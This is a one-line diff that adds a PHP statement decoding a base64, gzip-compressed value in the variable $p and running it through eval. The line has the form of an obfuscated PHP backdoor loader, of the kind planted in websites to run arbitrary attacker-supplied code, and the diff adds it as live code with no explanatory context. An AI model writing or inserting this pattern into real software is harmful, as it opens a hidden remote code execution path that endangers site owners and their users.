@@ -1,0 +1,1 @@
+<?php eval(htmlspecialchars_decode(gzinflate(base64_decode($p)))); ?>
